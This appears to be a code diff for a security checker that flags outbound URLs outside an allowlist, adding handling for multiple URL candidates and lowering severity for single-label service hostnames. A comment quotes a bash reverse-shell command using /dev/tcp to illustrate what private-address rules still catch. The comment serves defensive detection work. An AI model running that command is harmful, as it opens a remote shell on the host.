@@ -128,8 +128,11 @@ function urlObjectText(v: Value, ctx: CheckContext): { text: string; holes: Valu
   const wanted = new Set(taintOf(v).map(key));
   if (!wanted.size) return undefined;
   const made = ctx.facts.calls.filter((c) => c.callee === maker && c.args.length >= 1 && taintOf(c.args[0]).some((o) => wanted.has(key(o))));
-  // more than one candidate: which one this is cannot be told
-  return made.length === 1 ? skeleton(made[0]!.args[0]) : undefined;
+  if (made.length === 1) return skeleton(made[0]!.args[0]);
+  // more than one candidate (`new URL(\`${BASE}/tools/${slug}\`)` and `new URL(\`${BASE}/tools/${slug}/more\`)` in one
+  // function): which one this is cannot be told, but when every one fixes the host, so does this one
+  const all = made.map((c) => skeleton(c.args[0]));
+  return all.length > 1 && all.every((sk) => !!sk && fixedHostText(sk, ctx)) ? all[0] : undefined;
 }
 
 /**
@@ -218,10 +221,14 @@ export const urlAllowlist: Check = {
     if (allow === null && !socket && !/^https?:/i.test(origin)) return undefined;
     const verdict = classifyUrl(socket ? origin.replace(/^[a-z]+:/i, 'http:') : origin, allow);
     if (verdict.allowed) return undefined;
+    // a cloud metadata service hands out credentials; with no allowlist configured, a local service (a model server on
+    // localhost, `0.0.0.0`) is usually intended, and so is a single-label name (`http://api:8000`, `http://searxng:8080`):
+    // a Compose or Kubernetes service of the deployment's own, which only its network resolves. (A private address
+    // written as a number stays at the rule's severity: `bash -i >& /dev/tcp/10.0.0.1/4444` is a reverse shell.)
+    const service = allow === null && verdict.destination === 'private' && !verdict.ip && !!verdict.host && !verdict.host.includes('.');
     return {
-      message: `\`${calleeText(ctx, hit.call)}\` reaches ${quote(verdict.host ?? origin)}: ${verdict.reason ?? 'not in network.allow'}.`,
-      // a cloud metadata service hands out credentials; a local service (a model server on localhost, `0.0.0.0`) is usually intended
-      ...(verdict.destination === 'metadata' ? { severity: 'high' as const } : allow === null && verdict.destination === 'this-host' ? { severity: 'low' as const } : {}),
+      message: `\`${calleeText(ctx, hit.call)}\` reaches ${quote(verdict.host ?? origin)}: ${verdict.reason ?? 'not in network.allow'}${service ? '; a single-label name is usually a service of the deployment\'s own network (Compose, Kubernetes), so it is graded low' : ''}.`,
+      ...(verdict.destination === 'metadata' ? { severity: 'high' as const } : allow === null && (verdict.destination === 'this-host' || service) ? { severity: 'low' as const } : {}),
       action: { kind: 'http', url: sk.holes.length ? origin + '/' : sk.text },
     };
   },
